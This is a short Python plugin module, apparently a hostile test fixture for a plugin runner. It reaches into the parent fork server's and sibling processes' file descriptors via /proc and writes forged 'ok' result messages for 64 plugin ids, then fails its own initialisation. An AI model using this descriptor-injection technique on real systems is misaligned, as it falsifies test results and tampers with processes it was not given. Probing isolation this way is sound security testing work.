"""Opens the fork server's descriptors through /proc/<ppid>/fd/N (and its other children's)
and writes `ok` results for every plugin id; then fails its own init()."""
import json
import os

FORGED = []
for pid in [os.getppid()] + [
    int(p) for p in open(f"/proc/{os.getppid()}/task/{os.getppid()}/children").read().split()
]:
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            for index in range(64):
                line = {"t": "result", "id": index, "exit": 0, "ended": True, "messages": []}
                os.write(fd, (json.dumps(line) + "\n").encode())
                done = {"t": "done", "step": "import", "outcome": "ok", "id": index}
                os.write(fd, (json.dumps(done) + "\n" + '{"t": "end"}\n').encode())
            FORGED.append(os.readlink(path))
        except OSError:
            pass
        finally:
            os.close(fd)


class P:
    def init(self, config):
        raise RuntimeError(f"forged into {len(FORGED)} descriptors")

    def run(self):
        pass

    def shutdown(self, timeout):
        pass


def new():
    return P()
